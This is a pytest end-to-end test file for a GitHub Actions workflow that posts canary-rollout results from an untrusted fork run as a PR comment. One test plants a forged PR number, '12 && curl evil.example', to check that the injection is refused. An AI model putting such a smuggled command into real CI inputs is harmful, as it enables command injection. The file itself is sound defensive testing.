"""examples/workflows/fork-comment.yml: the trusted workflow_run side comments from data only."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.support.action_runner import ActionRunner
from tests.support.fixtures_actions import REPO_ROOT
from tests.support.github_api import GitHubApi, start_github_api

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]
WORKFLOW = REPO_ROOT / "examples" / "workflows" / "fork-comment.yml"


def _runner(factory: Callable[..., ActionRunner], github: GitHubApi, tmp_path: Path,
            number: str) -> ActionRunner:
    runner = factory(tmp_path / "ws", token=github.write_token, event_name="workflow_run",
                     event={"workflow_run": {"id": 4242, "event": "pull_request", "pull_requests": []}},
                     repository="acme/models", api_url=github.url)
    results = runner.state.artifact_dir / "ai-deploy-ci-results"  # what the untrusted run uploaded
    results.mkdir(parents=True)
    (results / "verdict.json").write_text(json.dumps({
        "verdict": "FAIL", "reason": "p95-latency: +48 % beyond the +10 % margin", "score": None, "blocks": 8,
        "decided_at_s": 40.0, "stopped_early": True, "checks": []}))
    (results / "rollout.json").write_text(json.dumps({
        "run_id": "1", "name": "demo", "namespace": "default", "strategy": "canary", "router": "gatewayAPI",
        "baseline_version": "v1", "candidate_version": "v2", "outcome": "rolled_back",
        "started": "2026-01-01T00:00:00Z", "ended": "2026-01-01T00:01:00Z", "steps": []}))
    (runner.state.artifact_dir / "pr-number").mkdir()
    (runner.state.artifact_dir / "pr-number" / "number").write_text(number)
    return runner


@pytest.mark.parametrize("number", ["12\n"])
def test_comment_lands_on_the_pr_named_by_the_artifact(
        action_runner_factory: Callable[..., ActionRunner], tmp_path: Path, number: str) -> None:
    with start_github_api() as github:
        result = _runner(action_runner_factory, github, tmp_path, number).run_job(WORKFLOW, "comment")
        assert result.ok, result.text[-3000:]
        [comment] = github.comments("acme/models", 12)
        assert "rolled back" in comment["body"].lower()


def test_a_forged_pr_number_is_refused_before_anything_is_posted(
        action_runner_factory: Callable[..., ActionRunner], tmp_path: Path) -> None:
    with start_github_api() as github:
        runner = _runner(action_runner_factory, github, tmp_path, "12 && curl evil.example")
        result = runner.run_job(WORKFLOW, "comment")
        assert not result.ok
        assert "pr/number is not a number" in result.errors()
        assert github.writes() == []
